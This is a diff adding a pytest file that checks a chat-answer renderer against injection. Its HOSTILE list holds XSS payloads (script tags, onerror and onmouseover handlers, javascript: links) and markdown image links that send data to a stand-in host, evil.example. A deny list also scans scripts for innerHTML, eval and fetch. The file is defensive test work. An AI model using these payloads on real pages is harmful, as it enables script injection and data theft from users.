@@ -1,0 +1,90 @@
+"""Whatever an answer says, its tree holds texts, known tags and citation numbers only."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from app.components.answer_text import Node, cited, tree
+
+COMPONENTS = Path(__file__).parents[2] / "app" / "components"
+DRAWN = re.search(r"TAGS = new Set\(\[(.*?)\]", (COMPONENTS / "answer.js").read_text(encoding="utf-8"), re.DOTALL)
+TAGS = set(re.findall(r"\w+", DRAWN[1] if DRAWN else ""))
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![leak](https://evil.example/?q=secret)",
+    "![leak][1]\n\n[1]: https://evil.example/",
+    "[click](javascript:alert(1))",
+    "<https://evil.example>",
+    "https://evil.example and www.evil.example",
+    "<iframe src='//evil.example'></iframe>\n\n<style>*{display:none}</style>",
+    "$\\href{https://evil.example}{x}$",
+    "```mermaid\ngraph TD; A-->B; click A href 'https://evil.example'\n```",
+    "|a|\n|-|\n|<b onmouseover=alert(1)>x</b>|",
+    ":material/home: :red[x] :rainbow[y]",
+    "> " * 200 + "deep",
+    "&lt;script&gt; &#60;script&#62;",
+]
+
+
+def nodes(found: list[Node]) -> Iterator[Node]:
+    for node in found:
+        yield node
+        if isinstance(node, dict) and "children" in node:
+            yield from nodes(node["children"])
+
+
+def words(found: list[Node]) -> str:
+    return "".join(node for node in nodes(found) if isinstance(node, str))
+
+
+@pytest.mark.parametrize("markdown", HOSTILE, ids=range(len(HOSTILE)))
+def test_nothing_but_texts_tags_and_numbers(markdown: str):
+    for node in nodes(tree(markdown)):
+        if isinstance(node, dict):
+            assert set(node) in ({"tag", "children"}, {"cite"})
+            assert node.get("tag", "p") in TAGS
+            assert isinstance(node.get("cite", 1), int)
+
+
+def test_markers_become_numbers_but_not_in_code():
+    found = tree("It opens at six [1][12]. See `x[3]`.\n\n- and closes [2]\n\n|a|\n|-|\n|b [4]|")
+    assert [node["cite"] for node in nodes(found) if isinstance(node, dict) and "cite" in node] == [1, 12, 2, 4]
+    assert "x[3]" in words(found)
+
+
+def test_html_is_shown_as_text():
+    assert words(tree("a <b>bold</b> claim")) == "a <b>bold</b> claim"
+
+
+def test_a_marker_of_nothing_stays_text():
+    assert cited("[x] [12345] []") == ["[x] [12345] []"]
+
+
+@pytest.mark.parametrize("path", sorted(COMPONENTS.glob("*.js")), ids=lambda path: path.name)
+def test_scripts_write_no_html(path: Path):
+    script = path.read_text(encoding="utf-8")
+    for word in (
+        "innerHTML",
+        "outerHTML",
+        "insertAdjacentHTML",
+        "document.write",
+        "eval(",
+        "href",
+        "src",
+        "fetch",
+        "http",
+    ):
+        assert word not in script
+
+
+@pytest.mark.parametrize("path", sorted(COMPONENTS.glob("*.css")), ids=lambda path: path.name)
+def test_styles_load_nothing(path: Path):
+    style = path.read_text(encoding="utf-8")
+    assert "url(" not in style
+    assert "@import" not in style
